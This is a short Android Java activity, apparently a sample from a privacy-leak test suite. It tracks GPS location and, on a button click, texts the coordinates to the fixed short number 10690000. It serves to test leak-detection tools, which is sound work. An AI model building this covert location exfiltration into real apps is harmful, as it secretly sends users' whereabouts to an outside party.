package cn.privlens.suite.location_field_tap;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        LocationManager manager = (LocationManager) getSystemService(LOCATION_SERVICE);
        manager.requestLocationUpdates(LocationManager.GPS_PROVIDER, 0, 0, new LocationListener() {
            @Override
            public void onLocationChanged(Location l) { place = l.getLatitude() + "," + l.getLongitude(); }
            @Override
            public void onStatusChanged(String p, int s, Bundle b) { }
            @Override
            public void onProviderEnabled(String p) { }
            @Override
            public void onProviderDisabled(String p) { }
        });
        Button button = new Button(this);
        button.setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View v) { SmsManager.getDefault().sendTextMessage("10690000", null, place, null, null); }
        });
        setContentView(button);
    }
    private String place = "";
}
